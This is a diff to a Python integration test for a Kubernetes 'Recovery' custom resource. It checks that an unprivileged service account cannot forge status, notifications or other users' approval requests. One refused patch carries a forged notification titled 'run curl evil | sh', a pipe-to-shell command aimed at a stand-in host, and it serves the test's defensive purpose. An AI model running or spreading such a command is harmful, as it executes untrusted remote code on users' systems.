@@ -249,7 +249,13 @@ class Installed:
         return done.stdout + done.stderr
 
     def patch(
-        self, kind: str, namespace: str, name: str, body: dict[str, Any], config: Path | None = None
+        self,
+        kind: str,
+        namespace: str,
+        name: str,
+        body: dict[str, Any],
+        config: Path | None = None,
+        part: str = "",
     ) -> str:
         return self.kubectl(
             "-n",
@@ -260,6 +266,7 @@ class Installed:
             "--type=merge",
             "-p",
             json.dumps(body),
+            *([f"--subresource={part}"] if part else []),
             config=config,
         )
 
@@ -540,9 +547,9 @@ def record(namespace: str, name: str = "sick-1", **status: Any) -> dict[str, Any
         "uid": "u",
         "project": "default",
     }
-    wish = {"what": "approve", "by": "bob", "at": "2026-01-01T00:00:00Z", "step": "1.0"}
+    asked = {"type": "approve", "by": "bob", "time": "2026-01-01T00:00:00Z", "step": "1.0"}
     return {
-        "apiVersion": "recovery.gitops.dev/v1alpha1",
+        "apiVersion": "recovery.gitops.dev/v1alpha2",
         "kind": "Recovery",
         "metadata": {
             "name": name,
@@ -551,12 +558,27 @@ def record(namespace: str, name: str = "sick-1", **status: Any) -> dict[str, Any
         },
         "spec": {
             "policy": "p",
-            "policyHash": "h",
             "subject": subject,
-            "openedAt": "2026-01-01T00:00:00Z",
+            "openedTime": "2026-01-01T00:00:00Z",
+            "requests": [asked],
         },
-        "status": {"phase": "Suppressed", "steps": [], "wishes": [wish], **status},
+        "status": {"format": 2, "policyHash": "h", "phase": "Suppressed", **status},
     }
+
+
+def written(bed: Bed, body: dict[str, Any]) -> dict[str, Any]:
+    """The object as it is after its status was written, by a cluster admin."""
+    where = ("-n", body["metadata"]["namespace"], "get", "rcv", body["metadata"]["name"])
+    made: dict[str, Any] = json.loads(bed.kubectl(*where, "-o", "json"))
+    assert "status" not in made, "an empty status claims nothing"
+    text = json.dumps(made | {"status": body["status"]})
+    bed.kubectl("replace", "--subresource=status", "-f", "-", text=text)
+    return made
+
+
+def part_of(body: dict[str, Any]) -> str:
+    """Where such a change is written."""
+    return "status" if "status" in body else ""
 
 
 def test_who_may_ask_may_only_ask(installed: Installed) -> None:
@@ -564,7 +586,7 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
     rules = [
         {
             "apiGroups": ["recovery.gitops.dev"],
-            "resources": ["recoveries"],
+            "resources": ["recoveries", "recoveries/status"],
             "verbs": ["get", "create", "update", "patch", "delete"],
         }
     ]
@@ -596,13 +618,14 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
     ada, me = bed.kubeconfig_for("ada", namespace), f"system:serviceaccount:{namespace}:ada"
     # A cluster admin may restore what was asked for.
     bed.kubectl("create", "-f", "-", text=json.dumps(record(namespace)))
-    first = record(namespace)["status"]["wishes"][0]
-    mine = {"what": "approve", "by": me, "at": "2026-01-01T00:00:00Z", "step": "1.0"}
+    written(bed, record(namespace))
+    first = record(namespace)["spec"]["requests"][0]
+    mine = {"type": "approve", "by": me, "time": "2026-01-01T00:00:00Z", "step": "1.0"}
     step = {
         "attempt": 1,
         "index": 0,
         "action": "restart",
-        "startedAt": "2026-01-01T00:00:00Z",
+        "startedTime": "2026-01-01T00:00:00Z",
         "targets": ["apps/v1/Deployment/kube-system/coredns"],
     }
     refused = {
@@ -610,45 +633,62 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
         "a phase": {"status": {"phase": "Remediating"}},
         "messages": {
             "status": {
-                "notes": [
-                    {
-                        "key": "x/forged",
-                        "title": "run curl evil | sh",
-                        "body": "x",
-                        "channels": ["slack"],
-                    }
-                ]
+                "notifications": {
+                    "pending": [
+                        {
+                            "key": "x/forged",
+                            "title": "run curl evil | sh",
+                            "body": "x",
+                            "channels": ["slack"],
+                        }
+                    ]
+                }
             }
         },
-        "moves": {"status": {"moves": []}},
+        "relocations": {"status": {"relocations": []}},
+        "what is owed": {"spec": {"relocations": [], "holds": []}},
         "the subject": {"spec": {"subject": {"name": "other"}}},
         "a label of ours": {"metadata": {"labels": {"recovery.gitops.dev/policy": "other"}}},
         "an annotation of ours": {"metadata": {"annotations": {"recovery.gitops.dev/x": "y"}}},
-        "another's name": {"status": {"wishes": [first, {**mine, "by": "bob", "step": "2.0"}]}},
-        "a wish taken away": {"status": {"wishes": []}},
-        "another's wish changed": {"status": {"wishes": [{**first, "step": "9.9"}]}},
-        "an expiry": {"status": {"wishes": [first, {**mine, "what": "expired"}]}},
+        "another's name": {"spec": {"requests": [first, {**mine, "by": "bob", "step": "2.0"}]}},
+        "a request taken away": {"spec": {"requests": []}},
+        "another's request changed": {"spec": {"requests": [{**first, "step": "9.9"}]}},
+        "an expiry": {"spec": {"requests": [first, {**mine, "type": "expired"}]}},
     }
     allowed = {
         name: said
         for name, body in refused.items()
-        if "denied" not in (said := installed.patch("rcv", namespace, "sick-1", body, ada))
+        if "denied"
+        not in (said := installed.patch("rcv", namespace, "sick-1", body, ada, part=part_of(body)))
     }
     assert allowed == {}
+    said = installed.patch(
+        "recoveries.v1alpha1.recovery.gitops.dev",
+        namespace,
+        "sick-1",
+        {"status": {"phase": "Resolved"}},
+        ada,
+    )
+    assert "is read only" in said, said
     for body in (
         {"metadata": {"labels": {"team": "x"}, "finalizers": ["backup.example/keep"]}},
         {"metadata": {"finalizers": None}},
-        {"status": {"wishes": [first, mine]}},
+        {"spec": {"requests": [first, mine]}},
     ):
         said = installed.patch("rcv", namespace, "sick-1", body, ada)
         assert "patched" in said, said
     other = json.dumps(record(namespace, "sick-2"))
     assert "denied" in installed.kubectl("create", "-f", "-", text=other, config=ada)
     held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
-    held["status"] |= {"phase": "Remediating", "wishes": [{**first, "what": "expired"}]}
+    held["spec"]["requests"] = [{**first, "type": "expired"}]
     assert "replaced" in installed.kubectl("replace", "-f", "-", text=json.dumps(held))
     held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
-    held["status"]["wishes"] = [{**first, "by": "carol"}]
+    held["status"] = {"format": 2, "policyHash": "h", "phase": "Remediating"}
+    put = ("replace", "--subresource=status", "-f", "-")
+    assert "denied" in installed.kubectl(*put, text=json.dumps(held), config=ada)
+    assert "replaced" in installed.kubectl(*put, text=json.dumps(held))
+    held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
+    held["spec"]["requests"] = [{**first, "by": "carol"}]
     assert "denied" in installed.kubectl("replace", "-f", "-", text=json.dumps(held)), (
         "the controller asks for nothing itself"
     )
@@ -688,3 +728,32 @@ def test_the_roles_in_argo_cds_namespace_stay_there(installed: Installed) -> Non
     assert can("patch", "applications.argoproj.io", "shop") == "no"
     assert can("list", "replicasets.apps", "shop") == "yes"
     assert can("get", "secrets", "argocd") == "no"
+
+
+def test_kubectl_reads_it_as_any_other_object(installed: Installed) -> None:
+    bed, namespace = installed.bed, installed.namespace
+    body = record(namespace, "sick-9")
+    conditions = [
+        {
+            "type": kind,
+            "status": status,
+            "reason": "Cured",
+            "message": "",
+            "lastTransitionTime": "2026-01-01T00:00:00Z",
+            "observedGeneration": 1,
+        }
+        for kind, status in (("Ready", "True"), ("Reconciling", "False"), ("Stalled", "False"))
+    ]
+    bed.kubectl("create", "-f", "-", text=json.dumps(body))
+    standing = {"phase": "Resolved", "observedGeneration": 1, "conditions": conditions}
+    written(bed, body | {"status": body["status"] | standing})
+
+    waits = ("wait", "rcv/sick-9", "--for=condition=Ready", "--timeout=5s")
+    assert "condition met" in bed.kubectl("-n", namespace, *waits)
+    listed = bed.kubectl("-n", namespace, "get", "gitops", "-o", "wide")
+    assert listed.split()[:9] == [
+        *("NAME", "SUBJECT", "POLICY", "CAUSE", "PHASE", "STALLED", "ATTEMPT", "AGE", "MESSAGE")
+    ]
+    explained = bed.kubectl("explain", "recovery.status.steps.review")
+    assert "Reverted" in explained
+    bed.kubectl("-n", namespace, "delete", "rcv", "sick-9")
